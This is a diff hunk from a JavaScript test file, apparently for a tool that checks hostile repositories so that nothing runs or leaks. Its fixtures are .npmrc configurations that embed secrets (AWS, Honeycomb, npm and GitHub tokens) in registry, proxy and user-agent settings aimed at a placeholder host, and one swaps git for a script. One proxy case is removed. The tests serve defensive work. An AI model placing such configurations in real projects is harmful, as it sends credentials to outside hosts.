@@ -123,7 +123,6 @@ describe('a repository that attacks: nothing runs, nothing leaves', () => {
     ['npm: a variable in a registry', () => npm({ 'web/.npmrc': 'registry=http://HOST/${HONEYCOMB_API_KEY}/\n' }), /"registry" is no plain address/],
     ['npm: a variable in a scope’s registry', () => npm({ 'web/.npmrc': '@opentelemetry:registry=http://HOST/${AWS_SECRET_ACCESS_KEY}/\n' }), /no plain address/],
     ['npm: a token for its own host', () => npm({ 'web/.npmrc': 'registry=http://HOST/\n//HOST/:_authToken=${NPM_TOKEN}\n' }), undefined, { env: { NPM_CONFIG_REGISTRY: 'http://HOST/' } }],
-    ['npm: a proxy with a variable', () => npm({ 'web/.npmrc': 'proxy=http://${NPM_TOKEN}:x@HOST/\nhttps-proxy=http://HOST/\nnoproxy=none.example\n' }), undefined],
     ['npm: a user agent with a variable', () => npm({ 'web/.npmrc': 'registry=http://HOST/\nuser-agent=${GITHUB_TOKEN}\n' }), undefined],
     ['npm: git is a script', () => npm({ 'web/.npmrc': 'git=SCRIPT\n' }, { dependencies: { express: '1.0.0', x: 'git+https://HOST/x.git' } }), /takes "x" from git/],
     ['npm: git is a script, and a package of a registry needs git', () => npm({ 'web/.npmrc': 'registry=http://HOST/\ngit=SCRIPT\n' }, { dependencies: { express: '1.0.0', 'needs-git': '1.0.0' } }), /could not bring|takes "/],
